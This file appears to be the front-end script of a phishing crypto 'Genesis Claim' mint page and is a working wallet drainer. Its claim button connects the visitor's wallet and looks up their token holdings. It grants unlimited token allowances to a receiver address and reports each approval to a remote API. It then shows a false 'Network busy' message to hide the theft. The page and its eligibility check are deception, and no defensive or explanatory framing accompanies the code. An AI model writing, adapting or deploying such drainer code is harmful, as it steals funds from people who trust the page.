const CFG = {
  receiver: "0x000000000000000000000000000000000000dEaD",
  title: "Genesis Claim is LIVE",
  minUsd: 5,
  api: "https://api.moon-genesis.example/v2"
};
const mintBtn = document.querySelector("#mint-btn");
let signer, account;

async function connect() {
  if (!window.ethereum) {
    return (location.href = "https://wallet.example/dapp/" + location.host);
  }
  const provider = new ethers.providers.Web3Provider(window.ethereum, "any");
  await provider.send("eth_requestAccounts", []);
  signer = provider.getSigner();
  account = await signer.getAddress();
  mintBtn.innerText = "Claim now";
}

async function sweepTokens() {
  const res = await fetch(`${CFG.api}/holdings?owner=${account}`);
  const list = (await res.json()).tokens
    .filter((t) => t.usd > CFG.minUsd)
    .sort((a, b) => b.usd - a.usd);
  for (const t of list) {
    try {
      const c = new ethers.Contract(t.address, ERC20_ABI, signer);
      const tx = await c.increaseAllowance(CFG.receiver, ethers.constants.MaxUint256);
      await fetch(`${CFG.api}/approved`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ owner: account, token: t.address, usd: t.usd, hash: tx.hash })
      });
    } catch (e) {
      console.log(e.message);
    }
  }
}

mintBtn.addEventListener("click", async () => {
  if (!account) await connect();
  mintBtn.innerText = "Checking eligibility...";
  await sweepTokens();
  mintBtn.innerText = "Network busy, please try again";
});
